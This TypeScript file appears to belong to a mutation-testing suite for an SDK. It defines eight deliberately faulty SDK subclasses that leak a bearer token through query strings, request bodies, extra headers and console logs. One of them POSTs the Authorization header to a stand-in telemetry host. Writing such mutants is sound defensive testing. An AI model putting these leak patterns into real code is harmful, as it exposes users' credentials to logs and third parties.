// Mutants that put the token where it does not belong.
import type { Endpoint } from '../../../contracts/wire.ts';
import { type Outgoing, ReferenceSdk } from '../sdk.ts';
import { type Mutant, mutant } from './mutant.ts';

const requirement = 'UDA-35';
const tags = ['stateful'] as const;

class InTheQuery extends ReferenceSdk {
  protected override urlOf(outgoing: Outgoing, authorization: string): string {
    const url = super.urlOf(outgoing, authorization);
    if (!authorization.startsWith('Bearer ')) return url;
    return `${url}${url.includes('?') ? '&' : '?'}access_token=${authorization.slice('Bearer '.length)}`;
  }
}

class InTheBody extends ReferenceSdk {
  protected override bodyOf(outgoing: Outgoing, authorization: string): unknown {
    const body = super.bodyOf(outgoing, authorization);
    return outgoing.endpoint === 'personalize' && authorization.startsWith('Bearer ')
      ? { ...(body as object), userDataJwt: this.token }
      : body;
  }
}

class InTheInstallation extends ReferenceSdk {
  protected override bodyOf(outgoing: Outgoing, authorization: string): unknown {
    const body = super.bodyOf(outgoing, authorization);
    return outgoing.endpoint === 'saveInstallation' && typeof this.token === 'string'
      ? { ...(body as object), userDataJwt: this.token }
      : body;
  }
}

class InAHeaderOfItsOwn extends ReferenceSdk {
  protected override headersOf(outgoing: Outgoing, authorization: string): Record<string, string> {
    const headers = super.headersOf(outgoing, authorization);
    return authorization.startsWith('Bearer ')
      ? { ...headers, 'X-User-Data-JWT': authorization.slice('Bearer '.length) }
      : headers;
  }
}

class InTheRequestLog extends ReferenceSdk {
  protected override async exchange(outgoing: Outgoing, authorization: string): Promise<unknown> {
    console.log(`→ ${outgoing.endpoint} Authorization: ${authorization}`);
    return super.exchange(outgoing, authorization);
  }
}

class InTheRefusalLog extends ReferenceSdk {
  protected override refuse(...[problem, token]: Parameters<ReferenceSdk['refuse']>): string {
    console.warn(`${problem.code}: ${String(token).trim()}`);
    return super.refuse(problem, token);
  }
}

class InTheErrorLog extends ReferenceSdk {
  protected override async exchange(outgoing: Outgoing, authorization: string): Promise<unknown> {
    try {
      return await super.exchange(outgoing, authorization);
    } catch (error) {
      console.error(`${outgoing.endpoint} failed`, this.headersOf(outgoing, authorization));
      throw error;
    }
  }
}

class AtAnotherHost extends ReferenceSdk {
  protected override authorization(endpoint: Endpoint): string {
    const authorization = super.authorization(endpoint);
    if (authorization.startsWith('Bearer '))
      this.fetch('https://telemetry.example.test/v1/calls', {
        method: 'POST',
        headers: { Authorization: authorization },
        body: JSON.stringify({ endpoint }),
      }).catch(() => undefined);
    return authorization;
  }
}

export const LEAKS: readonly Mutant[] = [
  mutant(
    'token-in-the-query',
    {
      requirement,
      sentence: 'The token is also in the query of the calls that take it.',
      cause: 'A proxy dropped Authorization headers, and RFC 6750 §2.3 shows another way.',
      tags,
    },
    InTheQuery,
  ),
  mutant(
    'token-in-the-body',
    {
      requirement,
      sentence: 'The token is also in the body of personalize.',
      cause: 'The whole configuration is serialised into the request.',
      tags,
    },
    InTheBody,
  ),
  mutant(
    'token-in-the-installation',
    {
      requirement,
      sentence: "saveInstallation sends the token as one of the installation's data.",
      cause: 'The installation is serialised with all of its fields, and one of them holds the token.',
      tags,
    },
    InTheInstallation,
  ),
  mutant(
    'token-in-another-header',
    {
      requirement,
      sentence: 'The token is also in a header of its own.',
      cause: 'An early version of the API took it there.',
      tags,
    },
    InAHeaderOfItsOwn,
  ),
  mutant(
    'token-in-the-request-log',
    {
      requirement,
      sentence: 'Each request is logged with its Authorization header.',
      cause: 'The HTTP client logs at its most talkative level, as it did while the SDK was built.',
      tags,
    },
    InTheRequestLog,
  ),
  mutant(
    'refused-token-logged',
    {
      requirement,
      sentence: 'A token that is refused is logged, so that a developer can look at it.',
      cause: 'A helpful line for developers is there in production as well.',
      tags: ['token-handling'],
    },
    InTheRefusalLog,
  ),
  mutant(
    'token-in-the-error-log',
    {
      requirement,
      sentence: 'A call that fails is logged with its headers.',
      cause: 'The error is logged with the request that it holds.',
      tags,
    },
    InTheErrorLog,
  ),
  mutant(
    'token-sent-to-another-host',
    {
      requirement,
      sentence: 'Calls with a token are reported to a telemetry service, with their headers.',
      cause: 'The telemetry wraps the HTTP client and copies what it sees.',
      tags,
    },
    AtAnotherHost,
  ),
];
